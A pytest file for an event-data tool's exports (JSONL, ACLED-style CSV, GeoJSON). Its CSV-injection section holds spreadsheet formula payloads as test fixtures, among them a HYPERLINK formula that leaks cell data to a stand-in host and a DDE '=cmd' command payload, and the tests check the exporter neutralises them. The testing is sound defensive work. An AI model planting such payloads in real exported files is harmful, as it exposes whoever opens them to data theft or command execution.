"""Exports parse back: JSON Lines, ACLED-style CSV and GeoJSON (Parquet: test_export_parquet.py)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from eventwire.errors import EventwireError
from eventwire.export import (
    ACLED_COLUMNS,
    CODE_COLUMNS,
    EVENT_CSV_COLUMNS,
    FORMULA_STARTS,
    TALLY_CSV_COLUMNS,
    ExportFormatError,
    csv_cell,
    event_record,
    export_documents,
    export_events,
    export_tallies,
)
from eventwire.model import EVENT_KEYS, TALLY_KEYS, Claim, Document, Event, Evidence, Range, Tally
from eventwire.store import open_store


def located_event() -> Event:
    return Event(
        event_id="ev-1",
        event_type="Explosions/Remote violence",
        sub_event_type="Air/drone strike",
        disorder_type="Political violence",
        event_date="2024-03-04",
        time_precision=1,
        actor1="Military Forces of Iraq",
        actor2="Militants (Iraq)",
        assoc_actor_1=["Unit A", "Unit B"],
        country="Iraq",
        iso3="IRQ",
        admin1="Anbar",
        location="Al Qaim",
        latitude=34.37,
        longitude=41.09,
        geo_precision=2,
        where_prec=2,
        location_as_written="near Al-Qaim",
        gazetteer_id="geonames:99132",
        location_type="city",
        weapon="drone",
        fatalities=Range(3, 4, 6),
        injuries=Range(None, 2, None),
        confidence=0.9,
        sources=[
            Evidence(
                "doc-1",
                "Example Wire",
                "https://a.example.org/1",
                "2024-03-05",
                " A drone hit a truck. ",
                0,
                20,
            ),
            Evidence(
                "doc-2", "Other Daily", "https://b.example.org/2", "2024-03-05", "Four died, it said.", 5, 24
            ),
            Evidence(
                "doc-3", "Example Wire", None, "2024-03-06", "The strike, on Monday, hit a truck.", 0, 34
            ),
        ],
    )


def unlocated_event() -> Event:
    return Event(
        event_id="ev-2",
        event_type="Protests",
        sub_event_type="Peaceful protest",
        event_date="2024-03-05",
        actor1="Protesters (Côte d'Ivoire)",
        country="Côte d'Ivoire",
        iso3="CIV",
        reported_as="background",
        sources=[Evidence("doc-4", None, None, None, 'Crowds chanted "enough", then dispersed.', 0, 40)],
    )


EVENTS = [located_event(), unlocated_event()]


def test_jsonl_has_one_full_event_dict_per_line() -> None:
    out = io.StringIO()
    assert export_events(EVENTS, "jsonl", out) == 2
    lines = out.getvalue().splitlines()
    records = [json.loads(line) for line in lines]
    # the contract's keys in order, then the PLOVER and CAMEO codes of the sub-event type
    assert [list(r) for r in records] == [[*EVENT_KEYS, *CODE_COLUMNS]] * 2
    assert [(r["plover_type"], r["plover_mode"], r["cameo_code"]) for r in records] == [
        ("ASSAULT", "heavy-weapons", "195"),
        ("PROTEST", "demo", "141"),
    ]
    assert [Event.from_dict(r) for r in records] == EVENTS
    assert "Côte d'Ivoire" in lines[1]  # UTF-8, not \u escapes


def test_csv_uses_acled_column_names_then_eventwire_columns() -> None:
    out = io.StringIO(newline="")
    assert export_events(EVENTS, "csv", out) == 2
    reader = csv.DictReader(io.StringIO(out.getvalue(), newline=""))
    assert tuple(reader.fieldnames or ()) == EVENT_CSV_COLUMNS
    # ACLED's columns keep their names and order; eventwire's place record follows geo_precision
    assert tuple(c for c in EVENT_CSV_COLUMNS if c in ACLED_COLUMNS) == ACLED_COLUMNS
    after = EVENT_CSV_COLUMNS.index("geo_precision") + 1
    assert EVENT_CSV_COLUMNS[after : after + 4] == (
        "where_prec",
        "location_as_written",
        "gazetteer_id",
        "location_type",
    )
    first, second = list(reader)
    assert first["event_id_cnty"] == "ev-1"
    assert first["year"] == "2024"
    assert first["iso"] == "368"  # ISO 3166-1 numeric, as ACLED writes it
    assert first["iso3"] == "IRQ"
    assert first["assoc_actor_1"] == "Unit A; Unit B"
    assert first["source"] == "Example Wire; Other Daily"  # each outlet once, in order
    assert first["evidence"] == "A drone hit a truck."
    assert first["notes"] == (
        "On 4 March 2024, an air/drone strike by Military Forces of Iraq against Militants (Iraq) "
        "took place in Al Qaim (Anbar, Iraq), with 4 reported fatalities (3 to 6)."
    )
    assert (first["fatalities"], first["fatalities_low"], first["fatalities_high"]) == ("4", "3", "6")
    assert (first["plover_type"], first["plover_mode"], first["cameo_code"]) == (
        "ASSAULT",
        "heavy-weapons",
        "195",
    )
    # state forces 1 against a political militia 3; a background protest by protesters alone: 60
    assert (first["inter1"], first["inter2"], first["interaction"]) == ("1", "3", "13")
    assert (second["inter1"], second["inter2"], second["interaction"]) == ("6", "", "60")
    assert (first["region"], second["region"]) == ("Middle East", "Western Africa")
    assert (first["admin3"], first["timestamp"], first["civilian_targeting"]) == ("", "", "")
    assert (first["tags"], second["tags"]) == ("weapon=drone", "reported as background")
    assert (first["injuries_low"], first["injuries_best"]) == ("", "2")
    assert (first["latitude"], first["longitude"]) == ("34.37", "41.09")
    assert (first["geo_precision"], first["where_prec"]) == ("2", "2")
    assert first["location_as_written"] == "near Al-Qaim"
    assert (first["gazetteer_id"], first["location_type"]) == ("geonames:99132", "city")
    assert (second["where_prec"], second["gazetteer_id"], second["location_type"]) == ("", "", "")
    assert first["document_ids"] == "doc-1; doc-2; doc-3"
    assert first["source_urls"] == "https://a.example.org/1; https://b.example.org/2"
    assert second["iso"] == "384"
    assert second["evidence"] == 'Crowds chanted "enough", then dispersed.'
    assert second["notes"] == (
        "On 5 March 2024, a peaceful protest by Protesters (Côte d'Ivoire) took place in Côte d'Ivoire, "
        "as recalled in a later report."
    )
    assert second["fatalities"] == "0"  # as ACLED writes it: none reported
    assert second["fatalities_best"] == ""  # eventwire's unknown stays unknown beside it
    assert second["latitude"] == ""
    assert second["reported_as"] == "background"


def test_geojson_is_a_feature_collection_with_lon_lat_points(tmp_path: Path) -> None:
    path = tmp_path / "events.geojson"
    with path.open("w", encoding="utf-8") as out:
        assert export_events(EVENTS, "GeoJSON", out) == 2
    collection = json.loads(path.read_text("utf-8"))
    assert collection["type"] == "FeatureCollection"
    located, unlocated = collection["features"]
    assert located["type"] == "Feature"
    assert located["geometry"] == {"type": "Point", "coordinates": [41.09, 34.37]}
    assert located["properties"] == event_record(EVENTS[0])
    assert located["properties"]["cameo_code"] == "195"
    assert located["properties"]["gazetteer_id"] == "geonames:99132"
    assert located["properties"]["where_prec"] == 2
    assert unlocated["geometry"] is None
    assert Event.from_dict(unlocated["properties"]) == EVENTS[1]


def test_a_record_exported_before_the_place_fields_existed_still_reads_back() -> None:
    old_record = located_event().to_dict()
    for key in ("where_prec", "location_as_written", "gazetteer_id", "location_type"):
        del old_record[key]
    event = Event.from_dict(old_record)
    assert (event.location, event.geo_precision) == ("Al Qaim", 2)
    assert (event.where_prec, event.location_as_written, event.gazetteer_id, event.location_type) == (
        None,
        None,
        None,
        None,
    )


def test_no_events_still_give_valid_files() -> None:
    for fmt in ("jsonl", "csv", "geojson"):
        out = io.StringIO()
        assert export_events([], fmt, out) == 0
        if fmt == "geojson":
            assert json.loads(out.getvalue()) == {"type": "FeatureCollection", "features": []}
        elif fmt == "csv":
            assert list(csv.reader(io.StringIO(out.getvalue()))) == [list(EVENT_CSV_COLUMNS)]
        else:
            assert out.getvalue() == ""


def test_events_from_a_store_export_as_stored(tmp_path: Path) -> None:
    with open_store(str(tmp_path / "events.db")) as store:
        store.add_document(Document("doc-1", "A drone hit a truck."), [located_event()])
        out = io.StringIO()
        assert export_events(store.events(), "jsonl", out) == 1
    exported = json.loads(out.getvalue())
    assert [m["document_id"] for m in exported.pop("merge")] == ["doc-1"]
    expected = event_record(located_event())
    expected.pop("merge")
    assert exported == expected


DOCS = [
    {
        "document_id": "doc-1",
        "title": "Drone strike",
        "published": "2024-03-05",
        "outlet": "Example Wire",
        "url": "https://a.example.org/1",
        "source": "feed.jsonl#1",
        "text": "A drone hit a truck.\n\nFour people died, officials said.",
    },
    {
        "document_id": "doc-2",
        "title": None,
        "published": None,
        "outlet": None,
        "url": None,
        "source": None,
        "text": 'Crowds chanted "enough".',
    },
]


def test_documents_as_jsonl_and_csv_parse_back() -> None:
    out = io.StringIO()
    assert export_documents(DOCS, "jsonl", out) == 2
    assert [json.loads(line) for line in out.getvalue().splitlines()] == DOCS

    out = io.StringIO(newline="")
    assert export_documents(DOCS, "csv", out) == 2
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert rows[0] == DOCS[0]  # multi-line text survives quoting
    assert rows[1]["title"] == "" and rows[1]["text"] == 'Crowds chanted "enough".'


def test_documents_have_no_geojson() -> None:
    with pytest.raises(ExportFormatError, match="documents have no geometry"):
        export_documents(DOCS, "geojson", io.StringIO())


@pytest.mark.parametrize("fmt", ["xml", "xlsx", ""])
def test_an_unknown_format_is_a_clear_error(fmt: str) -> None:
    out = io.StringIO()
    with pytest.raises(
        ExportFormatError, match="unknown export format.*jsonl, csv, geojson, parquet"
    ) as info:
        export_events(EVENTS, fmt, out)
    assert isinstance(info.value, ValueError) and isinstance(info.value, EventwireError)
    assert out.getvalue() == ""  # nothing written before refusing


def test_coordinates_that_are_not_numbers_become_null() -> None:
    event = located_event()
    event.latitude = float("nan")
    out = io.StringIO()
    export_events([event], "geojson", out)
    feature = json.loads(out.getvalue())["features"][0]
    assert feature["geometry"] is None
    assert feature["properties"]["latitude"] is None


# -- dates, claims and tallies ---------------------------------------------------


def dated_event_with_claims() -> Event:
    event = located_event()
    event.date_prec = 2
    event.claims = [
        Claim(
            kind="figure",
            document_id="doc-1",
            sentence="Four died, it said.",
            char_start=5,
            char_end=24,
            metric="killed",
            value=Range(3, 4, 6),
            speaker="Omar Haddad",
            speaker_title="provincial governor",
            outlet="Other Daily",
            said_on="2024-03-04",
        )
    ]
    return event


def test_event_jsonl_carries_claims_and_date_prec() -> None:
    out = io.StringIO()
    export_events([dated_event_with_claims()], "jsonl", out)
    record = json.loads(out.getvalue())
    assert record["date_prec"] == 2
    assert record["claims"][0]["speaker"] == "Omar Haddad"
    assert record["claims"][0]["value"] == {"low": 3, "best": 4, "high": 6}
    assert Event.from_dict(record) == dated_event_with_claims()


def test_event_csv_has_date_prec_right_after_time_precision() -> None:
    at = EVENT_CSV_COLUMNS.index("time_precision")
    assert EVENT_CSV_COLUMNS[at + 1] == "date_prec"
    out = io.StringIO()
    export_events([dated_event_with_claims()], "csv", out)
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert (row["time_precision"], row["date_prec"]) == ("1", "2")


def a_tally() -> Tally:
    sentence = "Rebels have attacked the port 12 times since March 1, 7 times in Tartus, 5 in Latakia."
    return Tally(
        tally_id="tl-1",
        metric="attacks",
        subject="the port",
        value=Range(12, 12, 12),
        qualifier="approximately",
        period_start="2024-03-01",
        period_end="2024-03-20",
        breakdown=[{"place": "Tartus", "value": 7}, {"place": "Latakia", "value": 5}],
        excludes="Sunday's raid",
        speaker="Omar Haddad",
        document_id="doc-9",
        sentence=sentence,
        char_end=len(sentence),
    )


def test_tallies_as_jsonl_are_full_tally_dicts() -> None:
    out = io.StringIO()
    assert export_tallies([a_tally()], "jsonl", out) == 1
    record = json.loads(out.getvalue())
    assert list(record) == list(TALLY_KEYS)
    assert Tally.from_dict(record) == a_tally()


def test_tallies_as_csv_split_the_value_and_keep_the_breakdown_as_json() -> None:
    out = io.StringIO()
    assert export_tallies([a_tally(), a_tally()], "csv", out) == 2
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert tuple(rows[0]) == TALLY_CSV_COLUMNS
    assert (rows[0]["value_low"], rows[0]["value_best"], rows[0]["value_high"]) == ("12", "12", "12")
    assert json.loads(rows[0]["breakdown"]) == [
        {"place": "Tartus", "value": 7},
        {"place": "Latakia", "value": 5},
    ]
    assert rows[0]["speaker_title"] == ""  # unknown stays empty


def test_tallies_have_no_geojson() -> None:
    with pytest.raises(ExportFormatError, match="tallies have no geometry"):
        export_tallies([a_tally()], "geojson", io.StringIO())


# --- CSV cells a spreadsheet would run ------------------------------------------------------------------


def hostile_event() -> Event:
    """Text fields an article could fill with spreadsheet formulas; coordinates that are negative."""
    return Event(
        event_id="ev-formula",
        event_type="Protests",
        sub_event_type="Peaceful protest",
        event_date="2024-03-05",
        actor1='=HYPERLINK("http://evil.example/?x="&A1,"click")',
        actor2="+1+2",
        assoc_actor_1=["-2+3", "@SUM(A1:A9)"],
        location="\tTab Town",
        location_as_written="\rCarriage Bay",
        country="Testland",
        latitude=-33.9,
        longitude=-3.2,
        fatalities=Range(1, 2, 3),
        confidence=0.5,
        sources=[Evidence("doc-f", "=cmd|' /C calc'!A0", None, None, "Marchers gathered at noon.", 0, 26)],
    )


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("", ""),
        (None, ""),
        (-3.2, -3.2),
        (-4, -4),
        (0.5, 0.5),
    ],
)
def test_csv_cell_neutralises_formula_text_only(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


def test_event_csv_cells_never_start_a_formula_and_numbers_stay_numbers() -> None:
    out = io.StringIO()
    export_events([hostile_event(), located_event()], "csv", out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    row = rows[0]
    assert row["actor1"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert row["actor2"] == "'+1+2"
    assert row["assoc_actor_1"] == "'-2+3; @SUM(A1:A9)"  # the cell starts with '-', the rest is inside it
    assert row["location"] == "'\tTab Town"
    assert row["location_as_written"] == "'\rCarriage Bay"
    assert row["source"] == "'=cmd|' /C calc'!A0"
    assert (row["latitude"], row["longitude"], row["fatalities"]) == ("-33.9", "-3.2", "2")
    for r in rows:
        for column, cell in r.items():
            assert not cell.startswith(FORMULA_STARTS) or column in ("latitude", "longitude"), (column, cell)
    assert rows[1]["actor1"] == "Military Forces of Iraq"  # ordinary text is untouched


def test_document_and_tally_csv_cells_are_neutralised_too() -> None:
    out = io.StringIO()
    export_documents([{"document_id": "d-1", "title": "=2*3", "text": "-- a dash-led line"}], "csv", out)
    (row,) = csv.DictReader(io.StringIO(out.getvalue(), newline=""))
    assert (row["title"], row["text"]) == ("'=2*3", "'-- a dash-led line")
    tally = a_tally()
    tally.metric = "@attacks"
    out = io.StringIO()
    export_tallies([tally], "csv", out)
    (trow,) = csv.DictReader(io.StringIO(out.getvalue()))
    assert trow["metric"] == "'@attacks"


# --- ACLED's derived columns: actor types, interaction, region, source scale --------------------


@pytest.mark.parametrize(
    ("name", "event_iso3", "code"),
    [
        ("Military Forces of Iraq", "IRQ", 1),
        ("Police Forces of Nigeria", "NGA", 1),
        ("Military Forces of the United States", "IRQ", 8),  # state forces abroad: external
        ("Military Forces of the United States", "USA", 1),
        ("Military Forces of Israel", "LBN", 8),  # a named group with its own country
        ("Islamic Revolutionary Guard Corps", "IRN", 1),
        ("Islamic State", "SYR", 2),
        ("Kataib Hezbollah", "IRQ", 3),
        ("Unidentified Armed Group (Mali)", "MLI", 3),
        ("Fulani Ethnic Militia", "NGA", 4),
        ("Rioters (Kenya)", "KEN", 5),
        ("Protesters (Iraq)", "IRQ", 6),
        ("Civilians (Iraq)", "IRQ", 7),
        ("Wagner Group", "MLI", 8),
        ("Military Forces of Iraq", None, 1),  # no country to compare with: state forces
        ("Some Committee", "IRQ", None),  # no rule knows it
    ],
)
def test_inter_codes_come_from_the_actor_names_eventwire_writes(
    name: str, event_iso3: str | None, code: int | None
) -> None:
    from eventwire.taxonomy.acled_columns import inter_code

    assert inter_code(name, event_iso3) == code


def test_interaction_joins_the_codes_lower_first_and_an_unknown_actor_leaves_it_empty() -> None:
    from eventwire.taxonomy.acled_columns import interaction

    assert (interaction(7, 1), interaction(1, 7), interaction(6, None), interaction(None, 6)) == (
        17,
        17,
        60,
        None,
    )
    event = located_event()
    event.actor2 = "Some Committee"  # named, but of no known type
    row = acled_row_of(event)
    assert (row["inter1"], row["inter2"], row["interaction"]) == ("1", "", "")


def acled_row_of(event: Event) -> dict[str, str]:
    out = io.StringIO()
    export_events([event], "csv", out)
    (row,) = csv.DictReader(io.StringIO(out.getvalue(), newline=""))
    return row


def test_every_country_has_an_acled_region_and_every_region_a_code() -> None:
    import pycountry

    from eventwire.taxonomy.acled_columns import region_codes, region_of

    regions = {c.alpha_3: region_of(c.alpha_3) for c in pycountry.countries}
    assert all(regions.values()), [k for k, v in regions.items() if not v]
    assert set(regions.values()) <= set(region_codes())
    assert (regions["IRN"], regions["GEO"], regions["MOZ"], regions["MEX"]) == (
        "Middle East",
        "Caucasus and Central Asia",
        "Southern Africa",
        "Central America",
    )
    assert region_of(None, "Kosovo") == "Europe" and region_of(None, "Atlantis") is None


def test_civilian_targeting_and_source_scale() -> None:
    event = located_event()
    event.actor2 = None
    event.assoc_actor_2 = ["Civilians (Iraq)"]
    event.sources[1].outlet, event.sources[1].url = "Reuters", None
    row = acled_row_of(event)
    assert row["civilian_targeting"] == "Civilian targeting"
    assert row["source_scale"] == "International"  # the one outlet eventwire knows
    event.iso3 = "GBR"  # Reuters at home is a national source
    assert acled_row_of(event)["source_scale"] == "National"
    assert acled_row_of(unlocated_event())["source_scale"] == ""


def test_a_national_outlet_is_regional_abroad_and_a_subnational_one_stays_so_at_home() -> None:
    from eventwire.taxonomy.acled_columns import source_scale

    assert source_scale([("Dawn", None)], "PAK") == "National"
    assert source_scale([("Dawn", None)], "AFG") == "Regional"
    assert source_scale([(None, "https://www.rudaw.net/english/middleeast/iraq/1")], "IRQ") == "Subnational"
    assert (
        source_scale([("Reuters", None), (None, "https://t.me/somechannel")], "IRQ")
        == "International-New media"
    )
    assert source_scale([("The Standard", None)], "KEN") is None  # an ambiguous name needs its web address


@pytest.mark.parametrize(
    ("fatalities", "ending"),
    [
        (Range(0, 0, 0), "with no fatalities reported."),
        (Range(1, 1, 1), "with 1 reported fatality."),
        (Range(12, 12, None), "with at least 12 reported fatalities."),
        (Range(None, 5, 5), "with 5 reported fatalities."),
        (Range(None, 5, 9), "with 5 reported fatalities (up to 9)."),
        (Range(), "took place in Al Qaim (Anbar, Iraq)."),
    ],
)
def test_notes_are_one_sentence_from_the_event(fatalities: Range, ending: str) -> None:
    from eventwire.export import summary

    event = located_event()
    event.fatalities = fatalities
    assert summary(event).endswith(ending)
    assert acled_row_of(event)["fatalities"] == str(fatalities.best or fatalities.low or 0)


# --- PLOVER and CAMEO ---------------------------------------------------------------------------------


def test_every_sub_event_type_has_a_plover_type_and_a_cameo_code() -> None:
    from eventwire.taxonomy import SUB_EVENT_TYPES
    from eventwire.taxonomy.crosswalk import cameo_roots, codes_of, plover_modes, plover_types

    for sub in SUB_EVENT_TYPES:
        codes = codes_of(sub)
        assert codes.plover_type in plover_types(), sub
        # a mode is one PLOVER gives that type, never a name of our own
        assert codes.plover_mode is None or codes.plover_mode in plover_modes()[codes.plover_type], sub
        assert codes.cameo_code.isdigit() and 3 <= len(codes.cameo_code) <= 4, sub
        assert codes.cameo_root in cameo_roots(), sub
        assert codes.cameo_name, sub


def test_plover_modes_belong_to_plover_types() -> None:
    from eventwire.taxonomy.crosswalk import plover_modes, plover_types

    assert set(plover_modes()) <= set(plover_types())
    assert "firearms" in plover_modes()["ASSAULT"] and "arrest" in plover_modes()["COERCE"]


def test_the_crosswalk_names_only_acled_sub_event_types() -> None:
    from eventwire.taxonomy import SUB_EVENT_TYPES, TaxonomyError
    from eventwire.taxonomy.crosswalk import _data, codes_of

    assert list(_data()["sub_event_types"]) == list(SUB_EVENT_TYPES)
    with pytest.raises(TaxonomyError, match="'Skirmish' is not an ACLED sub-event type"):
        codes_of("Skirmish")


def test_an_unknown_sub_event_type_exports_with_empty_codes() -> None:
    event = located_event()
    event.sub_event_type = "Skirmish"
    row = acled_row_of(event)
    assert (row["plover_type"], row["cameo_code"]) == ("", "")


# --- GeoJSON for QGIS ---------------------------------------------------------------------------------


def test_flat_geojson_has_no_nested_properties() -> None:
    out = io.StringIO()
    export_events(EVENTS, "geojson", out, flat=True)
    features = json.loads(out.getvalue())["features"]
    for feature in features:
        assert list(feature["properties"]) == list(EVENT_CSV_COLUMNS)
        assert not any(isinstance(v, dict | list) for v in feature["properties"].values())
    props = features[0]["properties"]
    assert props["assoc_actor_1"] == "Unit A; Unit B" and props["document_ids"] == "doc-1; doc-2; doc-3"
    assert (props["latitude"], props["fatalities"], props["inter1"]) == (34.37, 4, 1)  # numbers stay numbers
    assert props["assoc_actor_2"] is None


def test_geojson_can_leave_unlocated_events_out_and_count_them() -> None:
    from eventwire.export import ExportCounts

    out, counts = io.StringIO(), ExportCounts()
    assert export_events(EVENTS, "geojson", out, include_unlocated=False, counts=counts) == 1
    assert (counts.written, counts.left_out) == (1, 1)
    assert [f["id"] for f in json.loads(out.getvalue())["features"]] == ["ev-1"]


def test_flat_is_only_for_geojson() -> None:
    with pytest.raises(ExportFormatError, match="flat: only GeoJSON"):
        export_events(EVENTS, "csv", io.StringIO(), flat=True)


# --- a failed export leaves no file behind ------------------------------------------------------------


def failing_events() -> Any:
    yield located_event()
    raise RuntimeError("the store went away")


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "geojson", "parquet"])
def test_an_export_that_fails_midway_leaves_no_file_and_keeps_the_old_one(tmp_path: Path, fmt: str) -> None:
    from eventwire.export import BINARY_FORMATS, write_atomically

    fresh, old = tmp_path / f"new.{fmt}", tmp_path / f"old.{fmt}"
    old.write_text("the previous export\n", "utf-8")
    for target in (fresh, old):
        with (
            pytest.raises(RuntimeError, match="went away"),
            write_atomically(target, binary=fmt in BINARY_FORMATS) as out,
        ):
            export_events(failing_events(), fmt, out)
    assert not fresh.exists()
    assert old.read_text("utf-8") == "the previous export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == [old.name]  # no temporary file either


def test_a_complete_export_replaces_the_file_with_the_usual_permissions(tmp_path: Path) -> None:
    from eventwire.export import write_atomically

    target = tmp_path / "events.csv"
    with write_atomically(target) as out:
        export_events(EVENTS, "csv", out)
    assert len(list(csv.DictReader(target.open(encoding="utf-8", newline="")))) == 2
    assert target.stat().st_mode & 0o777 == 0o666 & ~_umask()
    assert [p.name for p in tmp_path.iterdir()] == ["events.csv"]


def _umask() -> int:
    import os

    mask = os.umask(0)
    os.umask(mask)
    return mask


def test_a_target_that_cannot_be_written_is_named(tmp_path: Path) -> None:
    from eventwire.export import ExportTargetError, write_atomically

    (tmp_path / "file").write_text("x", "utf-8")
    with pytest.raises(ExportTargetError, match="not-a-dir/events.csv: cannot write"):  # noqa: SIM117
        with write_atomically(tmp_path / "file" / "not-a-dir" / "events.csv"):
            pass
    with pytest.raises(ExportTargetError, match="is a directory"), write_atomically(tmp_path):
        pass


def test_a_bad_filter_found_late_by_the_store_leaves_no_file(db_url: str, tmp_path: Path) -> None:
    from eventwire.api import export
    from eventwire.errors import StoreError
    from eventwire.settings import Settings
    from eventwire.store.base import EventFilter

    with open_store(db_url) as store:
        store.add_document(Document("doc-1", "A drone hit a truck."), [located_event()])
    (tmp_path / "out").mkdir()
    target = tmp_path / "out" / "events.parquet"
    with pytest.raises(StoreError, match="date_from"):
        # built by hand, not by event_filter: only the store finds the date wrong, once the file is open
        export(
            Settings(db=db_url), "events", "parquet", path=target, filters=EventFilter(date_from="someday")
        )
    assert list((tmp_path / "out").iterdir()) == []
    result = export(Settings(db=db_url), "events", "parquet", path=target)
    assert (result.written, result.path) == (1, str(target))


def test_docs_export_md_documents_every_column() -> None:
    from eventwire.export import CLAIM_COLUMNS, REPORT_COLUMNS

    doc = (Path(__file__).parent.parent / "docs" / "export.md").read_text("utf-8")
    for column in {*EVENT_CSV_COLUMNS, *REPORT_COLUMNS, *CLAIM_COLUMNS}:
        group = column.rsplit("_", 1)[0] + "_*"
        assert f"`{column}`" in doc or f"`{group}`" in doc, column
    assert "(docs/export.md)" in (Path(__file__).parent.parent / "README.md").read_text("utf-8")
